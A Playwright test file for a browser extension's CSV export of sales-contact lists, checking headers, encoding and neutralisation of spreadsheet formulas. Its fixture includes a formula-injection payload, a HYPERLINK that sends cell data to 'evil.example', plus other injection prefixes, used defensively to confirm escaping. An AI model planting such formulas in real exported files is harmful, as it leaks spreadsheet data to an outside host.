import type { Page } from '@playwright/test';
import type { SnapshotContact } from '../../lib/model/snapshot';
import { expect, test } from './fixtures';
import { byHeader as rowsByHeader, localDates, parseCsvFile, saveBy } from './support/csv-download';
import { seedList } from './support/extension';

// Written out here rather than imported, so a reordering in lib/csv fails this test.
const HEADER = [
  'listName',
  'capturedAt',
  'id',
  'listId',
  'baseContactId',
  'firstName',
  'lastName',
  'fullName',
  'headline',
  'role',
  'companyName',
  'location',
  'avatar',
  'seniority',
  'positions',
  'linkedInSalesNavigatorProfileUrl',
  'createdAt',
  'currentTitle',
  'currentCompany',
  'email',
  'phone',
  'publicProfileUrl',
  'connectedOn',
];

const contacts = [
  {
    baseContactId: 'urn:li:member:1',
    firstName: 'Ada',
    lastName: 'Lovelace',
    fullName: 'Ada Lovelace',
    headline: 'Sells, analytically, "at scale"\nand writes',
    role: 'VP Sales',
    companyName: 'Stripe',
    seniority: ['VP'],
    positions: [
      { title: 'VP Sales', companyName: 'Stripe', tenureInMonths: 27, location: 'London' },
      { title: 'Account Executive', companyName: 'Acme', tenureInMonths: 11 },
    ],
    linkedInSalesNavigatorProfileUrl: 'https://www.linkedin.com/sales/lead/ACwAA1,NAME_SEARCH,x',
    email: 'ada@example.com',
    phone: '+44 20 7946 0958',
  },
  {
    baseContactId: 'urn:li:member:2',
    fullName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    // Excel with a ";" list separator splits on ";": quoting keeps this one cell of text.
    headline: 'Sales;=1+1',
    role: '-Chief Revenue Officer',
    companyName: '@Globex',
  },
  { baseContactId: 'urn:li:member:3', firstName: '小龍', lastName: '李', fullName: '李小龍 🐉', location: '香港' },
  { baseContactId: 'urn:li:member:4', fullName: 'Zoë Ångström-Šťastná', location: 'Zürich, Schweiz 🇨🇭' },
];

/** Stores a list as a capture would and shows the panel again with it. */
async function createList(page: Page, name: string, people: readonly SnapshotContact[]) {
  const created = await seedList(page, { name, filters: { jobTitles: ['VP Sales'] }, contacts: [...people] });
  expect(created).toMatchObject({ name, contactCount: people.length });
  await page.reload();
  return created;
}

function byHeader(rows: string[][]): Record<string, string>[] {
  return rowsByHeader(HEADER, rows);
}

test('"Export CSV" saves the list as a UTF-8 CSV with a BOM, CRLF, a header and neutralised formulas', async ({
  context,
  extensionUrl,
}) => {
  const panel = await context.newPage();
  await panel.goto(extensionUrl('sidepanel.html'));
  const list = await createList(panel, 'Zürich / 東京: VP Sales', contacts);

  await panel.getByRole('link', { name: 'Zürich / 東京: VP Sales' }).click();
  const { download, bytes } = await saveBy(panel, () => panel.getByRole('button', { name: 'Export CSV' }).click());

  expect(localDates().map((day) => `Zürich _ 東京_ VP Sales-${day}.csv`)).toContain(download.suggestedFilename());
  const [header, ...rows] = parseCsvFile(bytes);
  expect(header).toEqual(HEADER);
  expect(rows).toHaveLength(contacts.length);
  for (const row of rows) expect(row).toHaveLength(HEADER.length);

  const [ada, attacker, bruce, zoe] = byHeader(rows);
  expect(ada).toMatchObject({
    listName: 'Zürich / 東京: VP Sales',
    capturedAt: list.createdAt,
    listId: list.id,
    baseContactId: 'urn:li:member:1',
    fullName: 'Ada Lovelace',
    headline: 'Sells, analytically, "at scale"\nand writes',
    seniority: 'VP',
    positions: 'VP Sales at Stripe (London, 2 yr 3 mo) | Account Executive at Acme (11 mo)',
    currentTitle: 'VP Sales',
    currentCompany: 'Stripe',
    email: 'ada@example.com',
    phone: "'+44 20 7946 0958",
  });
  expect(attacker).toMatchObject({
    fullName: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
    headline: 'Sales;=1+1',
    role: "'-Chief Revenue Officer",
    companyName: "'@Globex",
    currentTitle: "'-Chief Revenue Officer",
    email: '',
    phone: '',
  });
  expect(bruce).toMatchObject({ firstName: '小龍', lastName: '李', fullName: '李小龍 🐉', location: '香港' });
  expect(zoe).toMatchObject({ fullName: 'Zoë Ångström-Šťastná', location: 'Zürich, Schweiz 🇨🇭' });
  for (const row of rows) {
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
});

test('"Export all" on the lists view saves every list in one file with a list column', async ({ context, extensionUrl }) => {
  const panel = await context.newPage();
  await panel.goto(extensionUrl('sidepanel.html'));
  const older = await createList(panel, 'Fintech CROs', contacts.slice(0, 2));
  // Lists are ordered by capture time (ms), then by random id: two lists created within the
  // same millisecond would come out in either order. Wait until the clock has passed the first.
  await expect.poll(() => panel.evaluate(() => Date.now())).toBeGreaterThan(Date.parse(older.createdAt));
  const newer = await createList(panel, 'Müller GmbH – Vertrieb', contacts.slice(2));
  expect(Date.parse(newer.createdAt)).toBeGreaterThan(Date.parse(older.createdAt));
  // The button only exists once the Lists view has read the lists; both must be shown first.
  await expect(panel.getByRole('link', { name: 'Fintech CROs' })).toBeVisible();
  await expect(panel.getByRole('link', { name: 'Müller GmbH – Vertrieb' })).toBeVisible();

  const { download, bytes } = await saveBy(panel, () => panel.getByRole('button', { name: 'Export all' }).click());

  expect(localDates().map((day) => `All lists-${day}.csv`)).toContain(download.suggestedFilename());
  const [header, ...rows] = parseCsvFile(bytes);
  expect(header).toEqual(HEADER);
  expect(byHeader(rows).map(({ listName, listId, fullName }) => ({ listName, listId, fullName }))).toEqual([
    { listName: 'Müller GmbH – Vertrieb', listId: newer.id, fullName: '李小龍 🐉' },
    { listName: 'Müller GmbH – Vertrieb', listId: newer.id, fullName: 'Zoë Ångström-Šťastná' },
    { listName: 'Fintech CROs', listId: older.id, fullName: 'Ada Lovelace' },
    { listName: 'Fintech CROs', listId: older.id, fullName: `'=HYPERLINK("https://evil.example/?"&A1,"Click")` },
  ]);
});
